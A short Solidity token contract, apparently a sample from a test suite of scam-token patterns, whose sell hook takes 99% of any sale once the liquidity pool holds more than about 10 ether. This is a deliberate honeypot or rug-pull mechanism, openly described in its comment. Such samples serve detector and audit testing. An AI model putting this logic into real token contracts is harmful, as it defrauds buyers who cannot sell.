// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {PairToken} from "./PairToken.sol";
import {SuiteToken} from "./SuiteToken.sol";

interface Coins {
    function balanceOf(address holder) external view returns (uint256);
}

/// When buyers have put enough coins into the pool, sales lose nearly everything.
contract ReserveThreshold is PairToken {
    Coins private immutable _coins;
    uint256 private constant ENOUGH = 10.15 ether;

    constructor(address pair, address coins) SuiteToken("Milestone", "MILE") PairToken(pair) {
        _coins = Coins(coins);
    }

    function _onSell(address, uint256 amount) internal view override returns (uint256) {
        return _coins.balanceOf(_pair) > ENOUGH ? (amount * 99) / 100 : 0;
    }
}
